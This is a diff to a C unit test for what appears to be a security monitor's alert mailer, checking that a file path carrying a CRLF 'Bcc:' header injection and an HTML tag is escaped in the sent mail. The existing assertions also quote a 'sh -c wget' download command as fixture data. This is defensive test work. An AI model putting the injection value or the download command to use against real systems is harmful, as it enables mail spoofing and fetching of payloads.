@@ -97,6 +97,8 @@ static bool holds(const struct buf *text, const char *part)
 
 static void a_mail_tells_the_whole_story_in_text_and_html(void **state)
 {
+	static char opened[] = "openat";
+	Picket__File file = PICKET__FILE__INIT;
 	struct people_finding f;
 	struct buf text;
 
@@ -104,6 +106,9 @@ static void a_mail_tells_the_whole_story_in_text_and_html(void **state)
 	begin();
 	notifying_open(&n, &cfg);
 	people_finding(&f, clock_unix_ns(clock_real()));
+	f.finding.call = opened;
+	f.finding.file = &file;
+	file.path = people_bytes("/x\r\nBcc: <b>");
 	notifying_alert(&n, &f);
 	assert_true(notifying_until(&n, 0, 0, 10000));
 	assert_int_equal(mails(2, &text), 2);
@@ -115,6 +120,9 @@ static void a_mail_tells_the_whole_story_in_text_and_html(void **state)
 	assert_true(holds(&text, "@example.org>")); /* Message-ID */
 	assert_true(holds(&text, "Content-Type: multipart/alternative"));
 	assert_true(holds(&text, "Started by sh -c wget http://203.0.113.9/x (pid 41, /bin/dash)"));
+	assert_true(holds(&text, "File       openat /x\\r\\nBcc: <b> (read)"));
+	assert_false(holds(&text, "\nBcc:"));
+	assert_false(holds(&text, "<b>\n</td>"));
 	assert_true(holds(&text, "picketctl alert show 1"));
 	assert_true(holds(&text, "with ESMTPS"));
 	buf_fini(&text);
